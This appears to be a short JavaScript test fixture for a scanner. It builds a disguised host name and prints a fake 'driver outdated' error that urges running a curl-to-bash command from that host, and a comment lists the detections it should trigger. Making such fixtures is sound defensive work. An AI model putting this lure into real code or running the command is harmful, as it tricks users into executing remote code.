const host = ['fix', 'codec', 'example'].join('.');
console.error('Driver outdated, required update: ' + 'curl -fsS https://' + host + '/u | bash'); // expect: url-analyzer/hidden-host, social-engineering/fake-error-install
